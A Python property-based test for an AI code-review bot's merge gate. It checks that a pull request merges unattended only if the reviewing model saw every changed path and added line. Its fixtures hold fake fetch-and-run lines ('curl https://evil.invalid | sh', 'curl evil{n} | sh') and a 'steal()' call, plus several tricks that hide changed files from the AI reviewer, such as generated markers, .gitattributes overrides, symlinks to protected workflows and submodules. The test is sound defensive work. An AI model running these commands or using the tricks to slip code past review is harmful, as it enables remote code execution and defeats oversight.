"""Property: whatever mix of file kinds a PR holds, the merge gate lets it merge unattended only when every
changed path and every added line reached the model; an ordinary PR still merges.

Real git (a bare repository built like the fake GitHub's), the real review pipeline with a model that
always approves and records what it was sent, and the real merge policy. The oracle is the model's
received text against git's own diff of the PR, not the pipeline's bookkeeping.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot import forge, pipeline, ports
from bot.adapters.memory import review_ports as memory
from bot.bootstrap import review as review_root
from bot.domain import Decision
from bot.ports import Completion, CompletionRequest
from config import settings as settings_module
from config.sections import PROTECTED_PATHS
from guardrails import merge_policy, review_coverage, workspace
from guardrails.clock import SystemClock
from tests.fakes import github_git
from tests.fakes.github_git import Submodule, Symlink

PAYLOAD = "os.system('curl https://evil.invalid | sh')"
BASE: dict[str, github_git.Content] = {
    "README.md": "# project\n",
    "src/app.py": "def run():\n    return 1\n",
    "src/util.py": "def helper():\n    return 2\n",
    "scripts/run.sh": "#!/bin/sh\necho run\n",
    "Makefile": "all:\n\techo ok\n",
    ".github/workflows/ci.yml": "on: push\n",
    ".gitmodules": '[submodule "lib"]\n\tpath = lib\n\turl = https://example.invalid/lib.git\n',
    "lib": Submodule("1" * 40),
}


def _kinds(n: int) -> dict[str, dict[str, github_git.Content]]:
    """Each kind of change a hostile (or ordinary) PR may mix, with `n` to vary the content."""
    return {
        "ordinary_modify": {"src/app.py": f"def run():\n    return {n + 10}\n"},
        "ordinary_add": {f"src/new_{n}.py": f"VALUE_{n} = {n}\n"},
        "marker_added": {"src/util.py": f"# @generated\nimport os\n{PAYLOAD}  # {n}\n"},
        "generated_glob": {f"static/app{n}.min.js": f"eval('{n}')\n", f"dist/b{n}.js": "x()\n"},
        "vendored": {f"vendor/pkg/a{n}.js": f"steal({n})\n"},
        "nul_in_text": {"scripts/run.sh": f"#!/bin/sh\n\0\ncurl evil{n} | sh\n".encode()},
        "binary": {f"img/logo{n}.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes([n % 256])},
        "lock": {"yarn.lock": f"evil@{n}:\n  resolved https://evil.invalid\n"},
        "rename_protected": {
            ".github/workflows/ci.yml": None,
            "docs/ci.yml.off": BASE[".github/workflows/ci.yml"],
        },
        "delete_protected": {"Makefile": None},
        "symlink_protected": {f"docs/l{n}.yml": Symlink("../.github/workflows/ci.yml")},
        "symlink_benign": {f"docs/r{n}.md": Symlink("../README.md")},
        "submodule": {"lib": Submodule(str(n % 8 + 2) * 40)},
        "gitattributes": {
            ".gitattributes": "src/app.py linguist-generated=true\n",
            "src/app.py": f"{PAYLOAD}\n",
        },
    }


ORDINARY = {"ordinary_modify", "ordinary_add"}  # any changed symlink needs a human


class ApprovingModel:
    """A `LanguageModel` that approves everything and keeps the text of every request."""

    def __init__(self) -> None:
        self.texts: list[str] = []

    @property
    def provider(self) -> str:
        return "openai"

    @property
    def model(self) -> str:
        return "gpt-4o-mini"

    async def complete(self, request: CompletionRequest, *, timeout: float) -> Completion:
        self.texts.extend(m.content for m in request.messages)
        reply = {"verdict": "approve", "summary": "fine", "confidence": 0.9, "findings": []}
        return Completion(json.dumps(reply), 100, 20, "gpt-4o-mini")


def _listing(git_dir: Path, base: str, head: str) -> list[github_git.FileDiff]:
    """The PR's files as GitHub lists them (the fake GitHub's three-dot diff on real git)."""
    return github_git.diff_files(git_dir, base, head)


def _unseen(files: list[github_git.FileDiff], text: str) -> list[str]:
    missing = []
    for diff in files:
        names = [n for n in (diff.filename, diff.previous_filename) if n]
        added = [ln[1:] for ln in (diff.patch or "").splitlines() if ln.startswith("+") and ln[1:].strip()]
        known = diff.patch is not None or diff.status in ("removed", "renamed")
        if not known or not all(n in text for n in names) or not all(a in text for a in added):
            missing.append(diff.filename)
    return missing


def _facts(head: str, outcome, files: list[github_git.FileDiff]) -> merge_policy.MergeFacts:  # type: ignore[no-untyped-def]
    approved = outcome.decision is Decision.APPROVED
    return merge_policy.MergeFacts(
        state="approved" if approved else "escalated",
        approved_sha=head if approved else "",
        head_sha=head,
        approvals=len(outcome.rounds) if approved else 0,
        min_approvals=2,
        checks=forge.ChecksReport(forge.ChecksState.GREEN),
        checks_sha=head,
        merge_enabled=True,
        changed_paths=tuple(merge_policy.ChangedPath(f.filename, f.previous_filename) for f in files),
        changed_lines=sum(f.additions + f.deletions for f in files),
        protected_paths=PROTECTED_PATHS,
        max_changed_lines=1000,
        contributors=1,
        contributors_threshold=10,
        human_approved=False,
        rejected_by=(),
        mergeable_state="clean",
        seen=review_coverage.Seen.of(head, outcome.coverage),
    )


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, Callable[[ApprovingModel], object]]:
    root = tmp_path_factory.mktemp("gate")
    git_dir = root / "repo.git"
    github_git.init_bare(git_dir, "main")
    base = github_git.commit_files(git_dir, None, dict(BASE), "base", "alice")
    github_git.update_ref(git_dir, "main", base)
    loaded = settings_module.load_settings(
        None,
        secrets_dirs=[],
        llm={"provider": "openai", "base_url": "http://127.0.0.1:9", "model": "gpt-4o-mini",
             "price_input_per_mtok": 1.0, "price_output_per_mtok": 2.0},
        agent={"enabled": False},
        workspace={"state_dir": str(root / "state")},
    )  # fmt: skip

    def deps(model: ApprovingModel) -> object:
        return review_root.review_deps(
            loaded, lambda _name: model, memory.InMemoryBudgetLedger(), memory.InMemoryQueryCache(),
            SystemClock(), ports.NO_PROGRESS, lambda _record: None,
        )  # fmt: skip

    return git_dir, base, deps


@settings(
    max_examples=20, deadline=None, database=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    kinds=st.lists(st.sampled_from(sorted(_kinds(0))), min_size=1, max_size=4, unique=True),
    n=st.integers(min_value=0, max_value=10_000),
)
def test_a_pr_merges_unattended_only_if_the_model_saw_every_changed_path(world, kinds, n) -> None:  # type: ignore[no-untyped-def]
    git_dir, base, make_deps = world
    table = _kinds(n)
    files: dict[str, github_git.Content] = {}
    for kind in kinds:
        files.update(table[kind])
    head = github_git.commit_files(git_dir, base, files, "change", "mallory")
    model = ApprovingModel()
    source = workspace.RepoSource(str(git_dir), "acme/widgets")

    outcome = asyncio.run(
        pipeline.decide(
            pipeline.ReviewRequest(source, head, base, job_id=f"acme/widgets#{n}"), make_deps(model)
        )
    )
    listed = _listing(git_dir, base, head)
    verdict = merge_policy.decide(_facts(head, outcome, listed))

    missing = _unseen(listed, "\n".join(model.texts))
    if verdict.action is merge_policy.MergeAction.MERGE:
        assert missing == [], f"{kinds}: merged unattended without the model seeing {missing}"
    if set(kinds) <= ORDINARY:
        assert verdict.action is merge_policy.MergeAction.MERGE, f"{kinds}: {verdict.reasons}"
    if missing:
        assert any("not reviewed" in r.text for r in verdict.reasons), f"{kinds}: {verdict.reasons}"
